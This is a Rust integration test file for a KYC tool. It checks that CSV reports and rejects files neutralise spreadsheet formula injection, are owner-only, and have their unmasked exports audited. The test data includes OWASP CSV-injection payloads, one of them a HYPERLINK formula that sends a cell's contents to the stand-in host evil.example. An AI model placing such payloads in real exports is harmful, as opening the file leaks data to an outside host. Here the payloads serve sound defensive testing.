//! Every CSV we hand to people is safe to open in a spreadsheet and readable by its owner only,
//! and unmasked exports are audited. Hostile values (OWASP "CSV injection") go in through the
//! database (reports, on PostgreSQL and SQLite) and through an input file (the producer's
//! rejects); every text cell that carries one must come out starting with `'`, while numeric
//! columns, negative ones included, stay plain numbers.

use std::collections::HashMap;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

use kyc_store::queries::OutcomeFilter;
use kyc_store::Store;

use crate::helpers::fresh_pg_store;

/// OWASP's triggers, plus text that merely looks like a (negative) number.
const HOSTILE: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?\"&E2,\"open\")",
    "@SUM(1+1)",
    "+1",
    "-1+1",
    "\t=1",
    "\r=1",
    "-5",
];

const DAY: i64 = 1_763_632_800_000; // 2025-11-20T10:00:00Z

/// One job per hostile value, its outcome carrying the value in every free-text column the
/// vendor controls, a similarity of -1, and a billing row per value where the vendor charged
/// more than we counted (difference -2).
async fn seed_hostile(store: &Store) {
    let pool = store.pool();
    sqlx::query(
        "INSERT INTO batches (batch_id, source, created_at_ms, updated_at_ms) VALUES ('evil', 'evil.csv', 0, 0)",
    )
    .execute(pool)
    .await
    .unwrap();
    for (i, h) in HOSTILE.iter().enumerate() {
        let job = format!("h{i}");
        sqlx::query(
            "INSERT INTO jobs (job_id, batch_id, source_row, dedup_key, customer_ref, vendor, operation, \
             subject_name, subject_id_number, created_at_ms, published_at_ms) \
             VALUES ($1, 'evil', $2, $3, $4, 'huawei', 'huawei.standard', $5, '11010519491231002X', 0, 1)",
        )
        .bind(job.clone())
        .bind(i as i64 + 2)
        .bind(format!("d{i}"))
        .bind(h.to_string())
        .bind(h.to_string())
        .execute(pool)
        .await
        .unwrap();
        sqlx::query(
            "INSERT INTO outcomes (job_id, batch_id, vendor, operation, status, reason, vendor_code, \
             vendor_message, similarity, liveness_score, vendor_request_id, vendor_ref, attempts, \
             latency_ms, billed, completed_at_ms) \
             VALUES ($1, 'evil', 'huawei', 'huawei.standard', 'failed', 'identity_mismatch', $2, $3, \
             $4, $5, $6, $7, 1, 5, 0, $8)",
        )
        .bind(job)
        .bind(h.to_string())
        .bind(h.to_string())
        .bind(-1.0f64)
        .bind(-1.0f64)
        .bind(h.to_string())
        .bind(h.to_string())
        .bind(DAY)
        .execute(pool)
        .await
        .unwrap();
        sqlx::query(
            "INSERT INTO billing_counters (vendor, product, day, billable_calls) VALUES ('huawei', $1, '2025-11-20', 1)",
        )
        .bind(h.to_string())
        .execute(pool)
        .await
        .unwrap();
        sqlx::query(
            "INSERT INTO vendor_charges (vendor, product, day, charged_calls, updated_at_ms) VALUES ('huawei', $1, '2025-11-20', 3, 0)",
        )
        .bind(h.to_string())
        .execute(pool)
        .await
        .unwrap();
    }
}

/// The records of a CSV as maps from column name to cell.
fn records(bytes: &[u8]) -> Vec<HashMap<String, String>> {
    let mut r = csv::Reader::from_reader(bytes);
    let headers = r.headers().unwrap().clone();
    r.records()
        .map(|rec| {
            let rec = rec.unwrap();
            headers
                .iter()
                .zip(rec.iter())
                .map(|(h, c)| (h.to_string(), c.to_string()))
                .collect()
        })
        .collect()
}

/// `cell` is `want` with a `'` in front.
#[track_caller]
fn assert_neutralised(cell: &str, want: &str) {
    assert_eq!(
        cell.strip_prefix('\''),
        Some(want),
        "cell {cell:?} is not the neutralised {want:?}"
    );
}

#[track_caller]
fn assert_number(cell: &str, want: &str) {
    assert_eq!(cell, want, "numeric cell");
    assert!(
        cell.parse::<f64>().is_ok(),
        "{cell:?} is not a plain number"
    );
}

async fn reports_neutralise_hostile_cells(store: &Store) {
    seed_hostile(store).await;

    let mut out = Vec::new();
    let filter = OutcomeFilter {
        batch_id: Some("evil".into()),
        ..Default::default()
    };
    let n = kyc_report::write_outcomes(
        store,
        &filter,
        &kyc_report::ReportOptions::default(),
        &mut out,
    )
    .await
    .unwrap();
    assert_eq!(n as usize, HOSTILE.len());
    let rows = records(&out);
    assert_eq!(rows.len(), HOSTILE.len());
    for (i, (row, h)) in rows.iter().zip(HOSTILE).enumerate() {
        for col in [
            "customer_ref",
            "vendor_code",
            "vendor_message",
            "vendor_request_id",
            "vendor_ref",
        ] {
            assert_neutralised(&row[col], h);
        }
        // The masked name keeps the hostile first character: still neutralised.
        assert!(row["name"].starts_with('\''), "{:?}", row["name"]);
        assert_number(&row["source_row"], &(i + 2).to_string());
        assert_number(&row["similarity"], "-1.00");
        assert_number(&row["liveness_score"], "-1.00");
        assert_number(&row["attempts"], "1");
        assert_number(&row["latency_ms"], "5");
    }

    let mut out = Vec::new();
    kyc_report::write_billing(
        store,
        &Default::default(),
        None,
        None,
        None,
        false,
        &mut out,
    )
    .await
    .unwrap();
    let rows = records(&out);
    assert_eq!(rows.len(), HOSTILE.len());
    for row in &rows {
        let product = row["product"]
            .strip_prefix('\'')
            .expect("neutralised product");
        assert!(HOSTILE.contains(&product), "{product:?}");
        assert_number(&row["billable_calls"], "1");
        assert_number(&row["vendor_charged_calls"], "3");
        assert_number(&row["difference"], "-2");
    }

    let mut out = Vec::new();
    kyc_report::write_reconcile(store, "evil", &mut out)
        .await
        .unwrap();
    let rows = records(&out);
    assert_eq!(rows.len(), HOSTILE.len());
    for (i, (row, h)) in rows.iter().zip(HOSTILE).enumerate() {
        assert_neutralised(&row["customer_ref"], h);
        assert_number(&row["source_row"], &(i + 2).to_string());
        assert_number(&row["unknown_calls"], "0");
    }
}

#[tokio::test]
async fn reports_neutralise_formulas_and_keep_numbers_on_postgresql() {
    let store = fresh_pg_store().await;
    reports_neutralise_hostile_cells(&store).await;
    store.close().await;
}

#[tokio::test]
async fn reports_neutralise_formulas_and_keep_numbers_on_sqlite() {
    let dir = tempfile::tempdir().unwrap();
    let store = sqlite_store(dir.path()).await;
    reports_neutralise_hostile_cells(&store).await;
    store.close().await;
}

async fn sqlite_store(dir: &Path) -> Store {
    let store = Store::connect(&sqlite_url(dir), 2).await.unwrap();
    store.migrate().await.unwrap();
    store
}

fn sqlite_url(dir: &Path) -> String {
    format!("sqlite://{}", dir.join("kyc.db").display())
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

/// `kyc` with no ambient configuration that could reach a real service.
fn kyc(dir: &Path) -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_kyc"));
    c.current_dir(dir)
        .env("KYC_DATABASE_URL", sqlite_url(dir))
        .env_remove("KYC_OPERATOR")
        .env("RUST_LOG", "error")
        .envs(crate::helpers::child_env());
    c
}

#[test]
fn the_producer_rejects_file_neutralises_formulas_and_is_owner_only() {
    let dir = tempfile::tempdir().unwrap();
    // Every hostile value as the operation, which the producer refuses and quotes back.
    let input = dir.path().join("evil.csv");
    let mut w = csv::Writer::from_path(&input).unwrap();
    w.write_record(["operation", "customer_ref", "name", "id_number"])
        .unwrap();
    for h in HOSTILE {
        w.write_record([h, "C-1", "张三", "11010519491231002X"])
            .unwrap();
    }
    w.flush().unwrap();
    drop(w);
    let rejects = dir.path().join("evil.rejects.csv");
    let out = kyc(dir.path())
        .args(["produce", "--dry-run", "--quiet", "--batch-id", "evil"])
        .arg("--input")
        .arg(&input)
        .arg("--rejects")
        .arg(&rejects)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(3),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(mode(&rejects), 0o600);
    let rows = records(&std::fs::read(&rejects).unwrap());
    assert_eq!(rows.len(), HOSTILE.len());
    for (i, (row, h)) in rows.iter().zip(HOSTILE).enumerate() {
        assert_eq!(row["column"], "operation");
        // The producer trims cells, so "\t=1" is refused as "=1": still a formula.
        assert_neutralised(&row["value"], h.trim());
        assert_number(&row["row"], &(i + 2).to_string());
    }
}

#[tokio::test]
async fn report_files_are_owner_only_and_neutralised() {
    let dir = tempfile::tempdir().unwrap();
    let store = sqlite_store(dir.path()).await;
    seed_hostile(&store).await;
    store.close().await;
    for (args, name) in [
        (
            vec!["report", "outcomes", "--batch", "evil"],
            "outcomes.csv",
        ),
        (vec!["report", "billing"], "billing.csv"),
        (
            vec!["report", "reconcile", "--batch", "evil"],
            "reconcile.csv",
        ),
    ] {
        let path = dir.path().join(name);
        // A file left world-readable by an earlier run is narrowed, not kept.
        std::fs::write(&path, "old").unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
        let out = kyc(dir.path())
            .args(&args)
            .arg("--out")
            .arg(&path)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(mode(&path), 0o600, "{name}");
        let text = std::fs::read_to_string(&path).unwrap();
        assert!(
            text.contains("'=HYPERLINK(") && !text.contains(",=HYPERLINK("),
            "{name}: {text}"
        );
    }
}

#[tokio::test]
async fn an_unmasked_export_records_operator_filter_destination_and_rows() {
    let dir = tempfile::tempdir().unwrap();
    let store = sqlite_store(dir.path()).await;
    seed_hostile(&store).await;
    let out_path = dir.path().join("unmasked.csv");
    let out = kyc(dir.path())
        .env("KYC_OPERATOR", "alice@compliance")
        .args([
            "report",
            "outcomes",
            "--unmasked",
            "--requested-by",
            "ticket SEC-42",
            "--batch",
            "evil",
            "--from",
            "2025-11-20",
            "--to",
            "2025-11-20",
            "--status",
            "failed",
        ])
        .arg("--out")
        .arg(&out_path)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(mode(&out_path), 0o600);
    let audit = store.report_audit().await.unwrap();
    assert_eq!(audit.len(), 1);
    let a = &audit[0];
    assert_eq!(
        (
            a.operator.as_str(),
            a.operator_source.as_str(),
            a.requested_by.as_str(),
            a.report.as_str()
        ),
        (
            "alice@compliance",
            "configured",
            "ticket SEC-42",
            "outcomes"
        )
    );
    let day_start = DAY - 36_000_000;
    assert_eq!(
        (
            a.filter_batch.as_deref(),
            a.filter_from_ms,
            a.filter_to_ms,
            a.filter_status.as_deref()
        ),
        (
            Some("evil"),
            Some(day_start),
            Some(day_start + 86_400_000),
            Some("failed")
        )
    );
    assert_eq!(Path::new(&a.destination), out_path.as_path());
    assert_eq!(a.rows_written, HOSTILE.len() as i64);
    assert!(a.finished_at_ms.is_some_and(|t| t >= a.at_ms));

    // Without a configured identity, the OS account running kyc is recorded.
    let out = kyc(dir.path())
        .args([
            "report",
            "outcomes",
            "--unmasked",
            "--requested-by",
            "ticket SEC-43",
            "--out",
            "-",
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let audit = store.report_audit().await.unwrap();
    let a = audit
        .iter()
        .find(|a| a.requested_by == "ticket SEC-43")
        .unwrap();
    assert_eq!(
        (
            a.operator.as_str(),
            a.operator_source.as_str(),
            a.destination.as_str()
        ),
        (
            whoami::username().unwrap().as_str(),
            "os_user",
            "standard output"
        )
    );
    assert_eq!(a.filter_batch, None);
    store.close().await;
}

/// A destination that takes nothing, like a full disk.
struct FullDisk;

impl std::io::Write for FullDisk {
    fn write(&mut self, _: &[u8]) -> std::io::Result<usize> {
        Err(std::io::Error::other("disk full"))
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Err(std::io::Error::other("disk full"))
    }
}

#[tokio::test]
async fn an_aborted_unmasked_export_stays_on_record() {
    let dir = tempfile::tempdir().unwrap();
    let store = sqlite_store(dir.path()).await;
    seed_hostile(&store).await;
    let opts = kyc_report::ReportOptions {
        unmasked: true,
        requested_by: "ticket SEC-44".into(),
        operator: Some(kyc_report::Operator {
            name: "bob".into(),
            source: kyc_report::OperatorSource::Configured,
        }),
        destination: "/reports/x.csv".into(),
        excel_bom: false,
        keys: Some(crate::helpers::keyring().data.clone()),
    };
    let filter = OutcomeFilter::default();
    let err = kyc_report::write_outcomes(&store, &filter, &opts, FullDisk).await;
    assert!(err.is_err(), "the sink failed, so must the export");
    let audit = store.report_audit().await.unwrap();
    assert_eq!(audit.len(), 1);
    assert_eq!(
        (
            audit[0].operator.as_str(),
            audit[0].rows_written,
            audit[0].finished_at_ms
        ),
        ("bob", -1, None)
    );

    // And without any identity, an unmasked export is refused before any row leaves.
    let nobody = kyc_report::ReportOptions {
        operator: None,
        ..opts
    };
    let mut out = Vec::new();
    let err = kyc_report::write_outcomes(&store, &filter, &nobody, &mut out)
        .await
        .unwrap_err();
    assert!(matches!(err, kyc_report::ReportError::NoOperator), "{err}");
    assert!(out.is_empty());
    store.close().await;
}
